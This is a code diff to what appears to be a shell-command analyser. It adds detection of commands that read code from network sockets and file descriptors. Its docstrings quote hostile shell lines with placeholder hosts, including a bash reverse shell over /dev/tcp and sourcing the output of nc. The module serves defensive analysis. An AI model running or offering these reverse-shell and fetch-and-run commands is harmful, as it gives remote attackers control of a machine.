@@ -47,9 +47,42 @@ def held(redirects: list[_Redir]) -> list[str]:
         text = heredoc_text([redirect])
         if text is not None:
             texts.append(text)
+        elif (sent := socket_text([redirect])) is not None:
+            texts.append(sent)
+        elif redirect.op == "<" and redirect.target and redirect.target.startswith("<("):
+            texts.append(". " + redirect.target)  # `exec {fd}< <(…)`: what the substitution prints, sourced
         elif redirect.op == "<" and redirect.is_path and redirect.target:
             texts.append(". " + shlex.quote(redirect.target))
     return texts
+
+
+_SOCKETS = ("/dev/tcp/", "/dev/udp/")  # bash(1), REDIRECTION: a connection the shell opens (effects/sends.py)
+
+
+def socket_text(redirects: list[_Redir], duplex: bool = False) -> str | None:
+    """What a command reads from a connection the shell opened on its stdin or a descriptor (`bash < /dev/tcp/H/P`,
+    `exec 5<>/dev/tcp/H/P`): whatever H sends, as the script that sources it from the network (`. <(nc H P)`), so a
+    shell reading it runs fetched code and a filter passes it on. `duplex`: a shell whose output goes there too
+    (`bash -i >& /dev/tcp/H/P 0>&1`: its stdin is that descriptor duplicated)."""
+    for redirect in redirects:
+        if redirect.target and redirect.target.startswith(_SOCKETS) and ("<" in redirect.op or duplex):
+            return ". <(nc " + " ".join(map(shlex.quote, redirect.target.split("/")[3:5])) + ")"
+    return None
+
+
+# A descriptor named as a file (https://mywiki.wooledge.org/FileDescriptor; proc(5)): `/dev/fd/N`, and the
+# process's own `/proc/self/fd/N`, `/proc/$$/fd/N`; N a number or a variable holding one (`exec {fd}<…`)
+_DESCRIPTOR_FILE = re.compile(
+    r"/(?:dev/fd|proc/(?:self|thread-self|\$\$|\$\{?BASHPID\}?)/fd)/(?:[3-9]|\d{2,}|\$\{?\w+\}?)"
+)
+
+
+def descriptor_script(name: str, argv: list[str], texts: list[str]) -> str | None:
+    """The script a shell runs (or `source` reads) from a descriptor named as a file (`bash /dev/fd/3`, `source
+    /proc/self/fd/$fd`): what the line put on descriptors, as for `bash <&3` (duplicated)."""
+    if not texts or name not in (*_SHELLS, "source", ".") or len(argv) < 2 or not _DESCRIPTOR_FILE.fullmatch(argv[1]):
+        return None
+    return "\n".join(texts) + "\n"
 
 
 def substituted_script(name: str, argv: list[str], home: str) -> str | None:
